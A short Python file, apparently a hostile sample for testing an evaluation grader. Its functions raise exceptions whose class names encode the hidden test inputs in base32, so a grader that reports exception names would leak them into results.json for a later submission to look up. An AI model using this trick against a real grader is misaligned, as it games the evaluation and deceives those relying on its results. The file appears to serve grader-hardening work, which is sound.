"""Exfiltration through the exception's class name: every call raises an exception class named after its inputs.

Against a grader that shows a hidden case's exception name as is, results.json would carry every
hidden input out; a second submission could then answer the hidden cases from a lookup table.
"""

import base64

HOSTILE = ["encode", "clip_loss", "interp_align"]


def _raise(args):
  text = repr(args)[:90].encode()
  name = "LEAK" + base64.b32encode(text).decode().rstrip("=")
  raise type(name, (Exception,), {})()


def clip_loss(image_emb, text_emb, temperature):
  _raise((image_emb, text_emb, temperature))


def interp_align(t_src, x_src, t_dst):
  _raise((t_src, x_src, t_dst))


def encode(vector):
  _raise(vector)
